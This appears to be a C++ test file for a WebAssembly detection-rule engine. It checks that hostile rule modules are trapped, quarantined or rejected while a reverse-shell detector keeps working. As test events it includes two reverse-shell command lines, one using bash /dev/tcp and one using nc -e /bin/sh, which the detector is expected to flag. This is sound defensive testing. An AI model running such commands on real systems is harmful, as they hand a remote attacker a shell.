// Hostile modules. Each test shows the engine rejecting or containing the module and then
// processing later events normally: a well-behaved rule loaded beside it keeps detecting.
#include <fstream>

#include "module_builder.h"
#include "wasm_test_util.h"

namespace wsn::wasm::testing {
namespace {

constexpr const char* kMeta =
    "abi = 1.0\nname = nested\ncategories = *\nfields = process.command_line\n";

void write_file(const std::string& path, const std::vector<uint8_t>& bytes) {
  std::ofstream out(path, std::ios::binary);
  out.write(reinterpret_cast<const char*>(bytes.data()),
            static_cast<std::streamsize>(bytes.size()));
}

class HostileTest : public WasmFixture, public ::testing::WithParamInterface<TierMode> {
 protected:
  void SetUp() override {
    WasmFixture::SetUp();
    options_->tier = GetParam();
    options_->aot_background = false;
  }

  // Runs `hostile` (rule 0) beside the C reverse-shell example (rule 1) over benign events and
  // one reverse shell at the end; returns the hostile rule's runner stats.
  RunnerStats run_beside_good_rule(const std::string& hostile, RecordingSink& sink,
                                   FailMode fail = FailMode::kOpen) {
    auto bad = load(test_module(hostile));
    auto good = load(sdk_module("c_reverse_shell"));
    if (!bad || !good) return {};
    if (GetParam() == TierMode::kCompiled) {
      EXPECT_TRUE(bad->aot_ready()) << bad->aot_error();
      EXPECT_TRUE(good->aot_ready()) << good->aot_error();
    }
    std::vector<WasmRule> rules = {rule(0, bad, fail), rule(1, good)};
    WasmRules set(std::move(rules), options_);
    auto matcher = set.make_matcher();
    for (int k = 0; k < 12; ++k) {
      matcher->process(process_event("evt-" + std::to_string(k), "exec", "ls", "ls -la /tmp"),
                       sink);
    }
    matcher->process(process_event("evt-shell", "exec", "bash",
                                   "bash -c 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1'"),
                     sink);
    auto* wm = dynamic_cast<WasmMatcher*>(matcher.get());
    EXPECT_NE(wm, nullptr);
    const RunnerStats stats = wm->runners()[0]->stats();
    const Tier expected = GetParam() == TierMode::kCompiled ? Tier::kCompiled : Tier::kInterpreter;
    EXPECT_EQ(wm->runners()[1]->stats().tier, expected);
    // The good rule saw every event and caught the shell.
    EXPECT_EQ(wm->runners()[1]->stats().calls, 13u);
    EXPECT_EQ(sink.count(1), 1u);
    EXPECT_EQ(wm->runners()[1]->stats().traps, 0u);
    return stats;
  }
};

TEST_P(HostileTest, InfiniteLoopEndsWithFuelTrap) {
  RecordingSink sink;
  const RunnerStats s = run_beside_good_rule("loop", sink);
  EXPECT_GE(s.traps_by_kind[static_cast<size_t>(TrapKind::kFuel)], 5u);
  EXPECT_EQ(s.traps, s.traps_by_kind[static_cast<size_t>(TrapKind::kFuel)]);
  // Five failures in a row quarantine the rule: later events are not sent to it.
  EXPECT_EQ(s.quarantines, 1u);
  EXPECT_TRUE(s.quarantined);
  EXPECT_EQ(s.calls, 5u);
  EXPECT_EQ(s.skipped, 8u);
  EXPECT_EQ(sink.count(0), 0u);  // fail-open: no alerts from the broken rule
}

TEST_P(HostileTest, DirectRecursionEndsWithDepthTrap) {
  RecordingSink sink;
  const RunnerStats s = run_beside_good_rule("recursion", sink);
  EXPECT_GE(s.traps_by_kind[static_cast<size_t>(TrapKind::kDepth)], 5u);
  EXPECT_EQ(s.traps, s.traps_by_kind[static_cast<size_t>(TrapKind::kDepth)]);
}

TEST_P(HostileTest, RecursionThroughCallIndirectEndsWithDepthTrap) {
  RecordingSink sink;
  const RunnerStats s = run_beside_good_rule("recursion_indirect", sink);
  EXPECT_GE(s.traps_by_kind[static_cast<size_t>(TrapKind::kDepth)], 5u);
  EXPECT_EQ(s.traps, s.traps_by_kind[static_cast<size_t>(TrapKind::kDepth)]);
}

TEST_P(HostileTest, OutOfBoundsAccessTraps) {
  RecordingSink sink;
  const RunnerStats s = run_beside_good_rule("oob", sink);
  EXPECT_GE(s.traps_by_kind[static_cast<size_t>(TrapKind::kMemory)], 5u);
}

TEST_P(HostileTest, BadHostCallArgumentsTrap) {
  RecordingSink sink;
  const RunnerStats s = run_beside_good_rule("host_abuse", sink);
  EXPECT_GE(s.traps_by_kind[static_cast<size_t>(TrapKind::kHost)], 5u);
}

size_t errors_of(const RunnerStats& s, RuleErrorKind k) {
  return s.errors[static_cast<size_t>(k)];
}

// Host-function floods inside the instruction budget: host calls cost fuel, so each call ends
// with a fuel trap after a bounded amount of host work (docs/wasm-runtime.md states the bound).
TEST_P(HostileTest, StateSetFloodIsStoppedByFuelAndEvictionsAreCounted) {
  options_->sandbox.max_state_entries = 1000;
  RecordingSink sink;
  const RunnerStats s = run_beside_good_rule("state_flood", sink);
  EXPECT_EQ(s.traps, 5u);  // then quarantined
  EXPECT_EQ(s.traps_by_kind[static_cast<size_t>(TrapKind::kFuel)], 5u);
  EXPECT_EQ(errors_of(s, RuleErrorKind::kTrapFuel), 5u);
  // At most budget / (call + state cost) inserts per call: the store only ever saw that many.
  const uint64_t per_call_max =
      static_cast<uint64_t>(options_->sandbox.fuel_per_event / (kHostFuelCall + kHostFuelState));
  EXPECT_GT(s.state_evictions, 0u);
  EXPECT_LE(s.state_evictions + 1000, 5 * per_call_max);
  EXPECT_EQ(s.quarantines, 1u);
}

TEST_P(HostileTest, StateAddAndGetFieldFloodsAreStoppedByFuel) {
  for (const char* module : {"state_add_flood", "get_field_flood"}) {
    RecordingSink sink;
    const RunnerStats s = run_beside_good_rule(module, sink);
    EXPECT_EQ(s.traps, 5u) << module;  // then quarantined
    EXPECT_EQ(errors_of(s, RuleErrorKind::kTrapFuel), 5u) << module;
    EXPECT_EQ(s.quarantines, 1u) << module;
  }
}

TEST_P(HostileTest, LogFloodIsStoppedByFuelAndCannotForgeLines) {
  RecordingSink sink;
  const RunnerStats s = run_beside_good_rule("log_flood", sink);
  EXPECT_EQ(errors_of(s, RuleErrorKind::kTrapFuel), 5u);
  EXPECT_GT(s.dropped_logs, 5u * 8u);
  size_t module_lines = 0;
  for (const std::string& line : logs_) {
    EXPECT_EQ(line.find('\n'), std::string::npos) << line;
    EXPECT_EQ(line.find('\x1b'), std::string::npos) << line;
    if (line.rfind("rule0:3:ok\\n2026-12-07T09:00:00.000Z CRITICAL", 0) == 0) {
      EXPECT_NE(line.find("forged\\x1b[2J"), std::string::npos) << line;
      ++module_lines;
    }
  }
  EXPECT_EQ(module_lines, 5u * 8u);  // 8 lines delivered per call, 5 calls
}

TEST_P(HostileTest, AlertFloodIsRefusedByTheHost) {
  RecordingSink sink;
  const RunnerStats s = run_beside_good_rule("alert_flood", sink);
  EXPECT_EQ(errors_of(s, RuleErrorKind::kHostRefusal), 5u);
  EXPECT_EQ(sink.count(0), 0u);  // a trapped call's alerts are dropped
}

TEST_P(HostileTest, NegativeResultsAreCountedAsErrors) {
  RecordingSink sink;
  const RunnerStats s = run_beside_good_rule("negative", sink);
  EXPECT_EQ(s.traps, 0u);
  EXPECT_EQ(errors_of(s, RuleErrorKind::kNegativeResult), 13u);
  EXPECT_EQ(sink.count(0), 0u);
  EXPECT_FALSE(s.quarantined);
}

TEST_P(HostileTest, ModuleThatTrapsOnEveryThirdEventIsQuarantinedByRate) {
  auto m = load(test_module("flaky"));
  ASSERT_TRUE(m);
  int64_t now_ms = 0;
  options_->clock_ms = [&now_ms] { return now_ms; };
  std::vector<WasmRule> rules = {rule(0, m)};
  WasmRules set(std::move(rules), options_);
  auto matcher = set.make_matcher();
  auto* wm = dynamic_cast<WasmMatcher*>(matcher.get());
  RecordingSink sink;
  for (int k = 0; k < 60; ++k) {
    matcher->process(process_event("e" + std::to_string(k), k % 3 == 2 ? "fork" : "exec", "x", "y"),
                     sink);
  }
  const RunnerStats& s = wm->runners()[0]->stats();
  // Never 5 failures in a row, but 8 of the last 32: quarantined after the 8th trap (event 23).
  EXPECT_EQ(s.quarantines, 1u);
  EXPECT_TRUE(s.quarantined);
  EXPECT_EQ(s.traps, 8u);
  EXPECT_EQ(s.calls, 24u);
  EXPECT_EQ(s.skipped, 36u);
  ASSERT_FALSE(logs_.empty());
  EXPECT_NE(logs_.back().find("8 failures in the last 32 evaluations"), std::string::npos)
      << logs_.back();
}

TEST_P(HostileTest, TrapMessagesNameTheCause) {
  auto expect_detail = [&](const std::string& module, TrapKind kind, const std::string& text) {
    auto m = load(test_module(module));
    ASSERT_TRUE(m);
    ModuleRunner r(m, {0, "r", FailMode::kOpen}, *options_);
    RecordingSink sink;
    r.process(process_event("e", "exec", "x", "y"), sink);
    EXPECT_EQ(r.last_call().trap, kind) << module;
    EXPECT_EQ(r.last_error(), text) << module;
  };
  expect_detail("loop", TrapKind::kFuel, "trap: fuel exhausted (budget 1000000)");
  expect_detail("state_flood", TrapKind::kFuel,
                "trap: fuel exhausted (in state_set, budget 1000000)");
  expect_detail("state_add_flood", TrapKind::kFuel,
                "trap: fuel exhausted (in state_add, budget 1000000)");
  expect_detail("get_field_flood", TrapKind::kFuel,
                "trap: fuel exhausted (in get_field, budget 1000000)");
  expect_detail("recursion", TrapKind::kDepth, "trap: call depth limit exceeded (limit 1000)");
  expect_detail("oob", TrapKind::kMemory, "trap: out-of-bounds memory access");
  expect_detail("host_abuse", TrapKind::kHost,
                "trap: host function refused its arguments (emit_alert title [4294967280, +64) "
                "is outside linear memory (65536 bytes))");
}

// The wall-clock deadline stops a call the fuel would not (a budget far above what the host
// can run in time), in instructions and in host calls alike, with its own kind and text.
TEST_P(HostileTest, CallWithFuelLeftEndsAtItsDeadline) {
  options_->sandbox.fuel_per_event = int64_t{1} << 60;
  options_->sandbox.deadline_ms_per_event = 50;
  for (const char* module :
       {"loop", "state_flood", "state_add_flood", "get_field_flood", "log_flood"}) {
    RecordingSink sink;
    const RunnerStats s = run_beside_good_rule(module, sink);
    EXPECT_EQ(s.traps, 5u) << module;  // then quarantined
    EXPECT_EQ(s.traps_by_kind[static_cast<size_t>(TrapKind::kDeadline)], 5u) << module;
    EXPECT_EQ(errors_of(s, RuleErrorKind::kDeadline), 5u) << module;
    EXPECT_EQ(s.quarantines, 1u) << module;
  }
  auto m = load(test_module("loop"));
  ASSERT_TRUE(m);
  ModuleRunner r(m, {0, "r", FailMode::kOpen}, *options_);
  RecordingSink sink;
  r.process(process_event("e", "exec", "x", "y"), sink);
  EXPECT_EQ(r.last_call().trap, TrapKind::kDeadline);
  EXPECT_EQ(r.last_error(), "trap: wall-clock deadline exceeded (budget 50 ms)");
}

// Recorded events are decided by fuel alone: the same module and budget that hit the deadline
// on live events ends with a fuel trap on replayed ones, on any machine and load.
TEST_P(HostileTest, DeadlineAppliesToLiveEventsOnly) {
  // Well above 1 ms of work in either tier, well below a second.
  options_->sandbox.fuel_per_event = GetParam() == TierMode::kCompiled ? 50'000'000 : 2'000'000;
  options_->sandbox.deadline_ms_per_event = 1;
  auto m = load(test_module("loop"));
  ASSERT_TRUE(m);
  ModuleRunner r(m, {0, "r", FailMode::kOpen}, *options_);
  RecordingSink sink;
  r.process(process_event("live", "exec", "x", "y"), sink);
  EXPECT_EQ(r.last_call().trap, TrapKind::kDeadline);
  r.set_live_events(false);
  r.process(process_event("recorded", "exec", "x", "y"), sink);
  EXPECT_EQ(r.last_call().trap, TrapKind::kFuel);
  EXPECT_EQ(r.last_error(), "trap: fuel exhausted (budget " +
                                std::to_string(options_->sandbox.fuel_per_event) + ")");
}

// What the wall clock decided live is stored with the event (wsn.live_decisions) and replayed:
// the recorded call runs to the same fuel, so it stops at the same point after the same host
// calls (state changes included), and fails with the same kind and text, on any machine.
TEST_P(HostileTest, ReplayReproducesTheDeadlineTheLiveRunHit) {
  options_->sandbox.fuel_per_event = GetParam() == TierMode::kCompiled ? 50'000'000 : 2'000'000;
  options_->sandbox.deadline_ms_per_event = 1;
  auto m = load(test_module("state_flood"));
  ASSERT_TRUE(m);
  ModuleRunner live(m, {0, "flood", FailMode::kClosed}, *options_);
  RecordingSink live_sink;
  Event e = process_event("e1", "exec", "x", "y");
  live.process(e, live_sink);
  ASSERT_EQ(live.last_call().trap, TrapKind::kDeadline);
  ASSERT_EQ(live_sink.decisions.size(), 1u);
  EXPECT_EQ(live_sink.decisions[0].rfind("flood\tevent\t", 0), 0u) << live_sink.decisions[0];

  // Without the decision, a replay runs the full budget: a fuel trap, a different outcome.
  ModuleRunner bare(m, {0, "flood", FailMode::kClosed}, *options_);
  bare.set_live_events(false);
  RecordingSink bare_sink;
  bare.process(e, bare_sink);
  EXPECT_EQ(bare.last_call().trap, TrapKind::kFuel);

  std::vector<std::string_view> items(live_sink.decisions.begin(), live_sink.decisions.end());
  e.set_string_list(fields::kWsnLiveDecisions, items);
  ModuleRunner replay(m, {0, "flood", FailMode::kClosed}, *options_);
  replay.set_live_events(false);
  RecordingSink replay_sink;
  replay.process(e, replay_sink);
  EXPECT_EQ(replay.last_call().trap, TrapKind::kDeadline);
  EXPECT_EQ(replay.last_error(), live.last_error());
  EXPECT_EQ(replay.last_call().fuel_used, live.last_call().fuel_used);
  EXPECT_EQ(replay.stats().state_evictions, live.stats().state_evictions);
  EXPECT_EQ(replay.stats().errors, live.stats().errors);
  EXPECT_TRUE(replay_sink.decisions.empty());
  // Fail-closed: the same detection title.
  ASSERT_EQ(replay_sink.all.size(), 1u);
  ASSERT_EQ(live_sink.all.size(), 1u);
  EXPECT_EQ(replay_sink.all[0].title, live_sink.all[0].title);
  EXPECT_NE(live_sink.all[0].title.find("wall-clock deadline exceeded"), std::string::npos)
      << live_sink.all[0].title;
}

TEST_P(HostileTest, FailClosedRuleAlertsOnEveryFailedEvaluation) {
  RecordingSink sink;
  const RunnerStats s = run_beside_good_rule("loop", sink, FailMode::kClosed);
  // 5 traps + 8 quarantined events, each a detection titled with the reason.
  EXPECT_EQ(sink.count(0), 13u);
  EXPECT_EQ(s.fail_closed, 13u);
  ASSERT_FALSE(sink.all.empty());
  EXPECT_NE(sink.all.front().title.find("fuel exhausted"), std::string::npos)
      << sink.all.front().title;
}

TEST_P(HostileTest, MemoryGrowthStopsAtTheCap) {
  options_->sandbox.memory_pages = 40;
  options_->sandbox.fuel_per_event = 100'000'000;  // the failed 65535-page request costs 67M
  auto m = load(test_module("grow"));
  ASSERT_TRUE(m);
  std::vector<WasmRule> rules = {rule(0, m)};
  WasmRules set(std::move(rules), options_);
  auto matcher = set.make_matcher();
  RecordingSink sink;
  matcher->process(process_event("e1", "exec", "x", "y"), sink);
  auto* wm = dynamic_cast<WasmMatcher*>(matcher.get());
  const CallTrace& t = wm->runners()[0]->last_call();
  EXPECT_EQ(t.trap, TrapKind::kNone);
  EXPECT_EQ(t.result, 40);  // memory.size after growing until memory.grow failed
  // 39 pages grown at 1024 fuel each, plus the failed huge grow charged up front.
  EXPECT_GT(t.fuel_used, 39 * kFuelPerGrowPage);
  EXPECT_EQ(sink.count(0), 1u);  // returned non-zero: a match
}

TEST_P(HostileTest, HugeGrowRequestIsChargedAndFails) {
  options_->sandbox.memory_pages = 40;
  // The default budget is below 65535 pages * 1024: the request fails for lack of fuel
  // before the memory cap is even consulted.
  auto m = load(test_module("grow"));
  ASSERT_TRUE(m);
  std::vector<WasmRule> rules = {rule(0, m)};
  WasmRules set(std::move(rules), options_);
  auto matcher = set.make_matcher();
  RecordingSink sink;
  matcher->process(process_event("e1", "exec", "x", "y"), sink);
  auto* wm = dynamic_cast<WasmMatcher*>(matcher.get());
  EXPECT_EQ(wm->runners()[0]->last_call().trap, TrapKind::kFuel);
}

INSTANTIATE_TEST_SUITE_P(Tiers, HostileTest,
                         ::testing::Values(TierMode::kInterpreter, TierMode::kCompiled),
                         [](const auto& param_info) {
                           return param_info.param == TierMode::kCompiled ? "Compiled"
                                                                          : "Interpreter";
                         });

// Load-time rejections: the reason is reported and a good module still loads and runs.
class RejectTest : public WasmFixture {
 protected:
  void expect_rejected(const std::string& path, LoadErrorKind kind, const std::string& needle) {
    LoadError err = load_error(path);
    EXPECT_EQ(err.kind, kind) << err.message;
    EXPECT_NE(err.message.find(needle), std::string::npos) << err.message;
    expect_engine_still_works();
  }
  void expect_engine_still_works() {
    auto good = load(sdk_module("c_reverse_shell"));
    ASSERT_TRUE(good);
    std::vector<WasmRule> rules = {rule(0, good)};
    WasmRules set(std::move(rules), options_);
    auto matcher = set.make_matcher();
    RecordingSink sink;
    matcher->process(process_event("a", "exec", "nc", "nc -e /bin/sh 198.51.100.7 9001"), sink);
    matcher->process(process_event("b", "exec", "nc", "nc -zv 10.0.0.5 22"), sink);
    ASSERT_EQ(sink.all.size(), 1u);
    EXPECT_EQ(sink.all[0].event_id, "a");
  }
  std::string temp_path(const std::string& name) {
    std::filesystem::create_directories(cache_dir_);
    return (cache_dir_ / name).string();
  }
};

TEST_F(RejectTest, HundredThousandNestedBlocks) {
  const std::string path = temp_path("nested.wasm");
  write_file(path, nested_blocks_module(100000, kMeta));
  expect_rejected(path, LoadErrorKind::kRejected, "nests blocks more than 1024 deep");
}

TEST_F(RejectTest, NestingThatCrashesTheHelperOnlyCrashesTheHelper) {
  // Lift the nesting limit so the module reaches wabt's recursive IR code in the helper.
  options_->sandbox.max_nesting = 100'000'000;
  options_->sandbox.max_module_bytes = 64 << 20;
  const std::string path = temp_path("very_nested.wasm");
  write_file(path, nested_blocks_module(4'000'000, kMeta));
  LoadError err = load_error(path);
  EXPECT_EQ(err.kind, LoadErrorKind::kHelper) << err.message;
  EXPECT_NE(err.message.find("the module helper"), std::string::npos) << err.message;
  expect_engine_still_works();
}

TEST_F(RejectTest, InvalidBinaries) {
  const std::string garbage = temp_path("garbage.wasm");
  write_file(garbage, {'n', 'o', 't', ' ', 'w', 'a', 's', 'm'});
  expect_rejected(garbage, LoadErrorKind::kRejected, "not a WebAssembly binary");

  std::vector<uint8_t> good = nested_blocks_module(3, kMeta);
  std::vector<uint8_t> truncated(good.begin(), good.begin() + 40);
  const std::string cut = temp_path("truncated.wasm");
  write_file(cut, truncated);
  expect_rejected(cut, LoadErrorKind::kRejected, "invalid module");

  std::vector<uint8_t> corrupt = good;
  corrupt[corrupt.size() - std::string(kMeta).size() - 20] =
      0xff;  // an opcode inside the code section
  const std::string bad_op = temp_path("corrupt.wasm");
  write_file(bad_op, corrupt);
  LoadError err = load_error(bad_op);
  EXPECT_EQ(err.kind, LoadErrorKind::kRejected) << err.message;
}

TEST_F(RejectTest, MissingMetadataSection) {
  std::vector<uint8_t> m = nested_blocks_module(1, kMeta);
  // Drop the trailing custom section.
  m.resize(m.size() - (2 + 1 + 8 + std::string(kMeta).size()));
  const std::string path = temp_path("nometa.wasm");
  write_file(path, m);
  expect_rejected(path, LoadErrorKind::kRejected, "no 'wsn.meta' custom section");
}

TEST_F(RejectTest, SimdIsRefused) {
  expect_rejected(test_module("simd"), LoadErrorKind::kRejected, "SIMD");
}

TEST_F(RejectTest, ThreadsAreRefused) {
  expect_rejected(test_module("threads"), LoadErrorKind::kRejected, "threads proposal");
}

TEST_F(RejectTest, ForbiddenImport) {
  expect_rejected(test_module("forbidden_import"), LoadErrorKind::kRejected,
                  "import 'wasi_snapshot_preview1.fd_write' is not allowed");
}

TEST_F(RejectTest, HostDeadlineImportIsReservedForTheRewriter) {
  expect_rejected(test_module("deadline_import"), LoadErrorKind::kRejected,
                  "import 'wsn.wsn_host_deadline' is not a host function of ABI v1");
}

TEST_F(RejectTest, MistypedImport) {
  expect_rejected(test_module("mistyped_import"), LoadErrorKind::kRejected,
                  "import 'wsn.emit_alert' has type (i32) -> (); ABI v1 requires (i32, i32, "
                  "i32, i32, i32) -> ()");
}

TEST_F(RejectTest, UnknownAbiVersion) {
  expect_rejected(test_module("abi_v2"), LoadErrorKind::kRejected,
                  "targets Wasm rule ABI 2 (export 'wsn_abi_v2'); this host supports ABI 1");
}

TEST_F(RejectTest, InitThatTraps) {
  expect_rejected(test_module("init_trap"), LoadErrorKind::kInit,
                  "wsn_init trapped: unreachable executed");
}

TEST_F(RejectTest, ConfigRefusedByTheModule) {
  LoadError err = load_error(sdk_module("c_failed_sudo"), "threshold=banana");
  EXPECT_EQ(err.kind, LoadErrorKind::kInit);
  EXPECT_NE(err.message.find("wsn_init returned 1"), std::string::npos) << err.message;
  expect_engine_still_works();
}

TEST_F(RejectTest, UnknownFieldInMetadata) {
  std::vector<uint8_t> m =
      nested_blocks_module(1, "abi = 1.0\nname = x\nfields = process.comand_line\n");
  const std::string path = temp_path("badfield.wasm");
  write_file(path, m);
  expect_rejected(path, LoadErrorKind::kRejected, "unknown field 'process.comand_line'");
}

TEST_F(RejectTest, MissingHelperIsReported) {
  options_->helper_path = "/nonexistent/wsn-wasm-helper";
  LoadError err = load_error(sdk_module("c_reverse_shell"));
  EXPECT_EQ(err.kind, LoadErrorKind::kHelper);
  EXPECT_NE(err.message.find("missing"), std::string::npos) << err.message;
}

}  // namespace
}  // namespace wsn::wasm::testing

namespace wsn::wasm::testing {
namespace {

class FeatureTest : public WasmFixture, public ::testing::WithParamInterface<TierMode> {
 protected:
  void SetUp() override {
    WasmFixture::SetUp();
    options_->tier = GetParam();
    options_->aot_background = false;
  }
};

TEST_P(FeatureTest, LazyFieldsAndTicks) {
  auto m = load(test_module("tick"));
  ASSERT_TRUE(m);
  std::vector<WasmRule> rules = {rule(0, m)};
  WasmRules set(std::move(rules), options_);
  auto matcher = set.make_matcher();
  auto* wm = dynamic_cast<WasmMatcher*>(matcher.get());
  RecordingSink sink;
  const int64_t s = 1'000'000'000;
  const std::string long_cmd = "bash " + std::string(30000, 'x');  // longer than any buffer
  matcher->process(process_event("t0", "exec", "bash", long_cmd, 100 * s), sink);
  EXPECT_EQ(wm->runners()[0]->last_call().result, static_cast<int32_t>(long_cmd.size()));
  EXPECT_EQ(sink.count(0), 1u);  // a non-zero result is a match
  // No tick yet (the first is due one second after the first event), and an empty command
  // line has length 0: no match.
  matcher->process(process_event("t05", "exec", "sh", "", 100 * s + s / 2), sink);
  EXPECT_EQ(sink.count(0), 1u);
  matcher->process(process_event("t12", "exec", "bash", "bash -l", 101 * s + s / 5), sink);
  matcher->process(process_event("t13", "exec", "bash", "bash -l", 101 * s + s / 3), sink);
  matcher->process(process_event("t25", "exec", "bash", "bash -l", 102 * s + s / 2), sink);
  // Ticks at 101.2 s and 102.5 s; each matched, attached to the event that triggered it. The
  // events themselves also matched (non-zero length), except the empty command line.
  size_t ticks = 0;
  for (const auto& d : sink.all) ticks += (d.event_id == "t12" || d.event_id == "t25") ? 1 : 0;
  EXPECT_EQ(ticks, 4u);  // tick + event, twice
  EXPECT_EQ(sink.count(0), 6u);
  EXPECT_EQ(wm->runners()[0]->stats().traps, 0u);
  EXPECT_EQ(wm->runners()[0]->stats().calls, 7u);  // 5 events + 2 ticks
}

INSTANTIATE_TEST_SUITE_P(Tiers, FeatureTest,
                         ::testing::Values(TierMode::kInterpreter, TierMode::kCompiled),
                         [](const auto& param_info) {
                           return param_info.param == TierMode::kCompiled ? "Compiled"
                                                                          : "Interpreter";
                         });

}  // namespace
}  // namespace wsn::wasm::testing
